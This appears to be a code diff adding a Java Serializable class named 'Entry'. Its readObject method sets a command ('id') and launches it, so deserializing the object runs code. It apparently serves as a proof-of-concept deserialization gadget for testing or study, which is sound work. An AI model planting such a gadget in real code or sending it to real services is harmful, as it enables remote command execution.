@@ -0,0 +1,13 @@
+import java.io.ObjectInputStream;
+import java.io.Serializable;
+
+public class Entry implements Serializable {
+
+    private String cmd;
+
+    private void readObject(ObjectInputStream in) throws Exception {
+        in.defaultReadObject();
+        Config.command = "id";
+        Launcher.launch();
+    }
+}